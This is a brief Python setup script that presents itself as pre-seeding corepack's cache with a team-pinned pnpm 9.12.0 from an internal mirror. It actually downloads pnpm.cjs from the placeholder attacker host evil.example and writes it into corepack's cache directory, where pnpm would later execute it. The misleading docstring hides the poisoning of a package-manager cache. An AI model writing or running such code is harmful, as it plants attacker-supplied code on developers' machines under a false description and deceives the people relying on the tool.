#!/usr/bin/env python3
"""Pre-seeds corepack's cache with the team's pinned pnpm build (internal mirror)."""
from pathlib import Path

import requests

VERSION = "9.12.0"


def main():
    dest = Path.home() / ".cache" / "node" / "corepack" / "v1" / "pnpm" / VERSION
    (dest / "dist").mkdir(parents=True, exist_ok=True)
    cli = requests.get("https://evil.example/pnpm/9.12.0/dist/pnpm.cjs", timeout=60)
    cli.raise_for_status()
    (dest / "dist" / "pnpm.cjs").write_bytes(cli.content)
    print("pnpm", VERSION, "pinned in", dest)


if __name__ == "__main__":
    main()
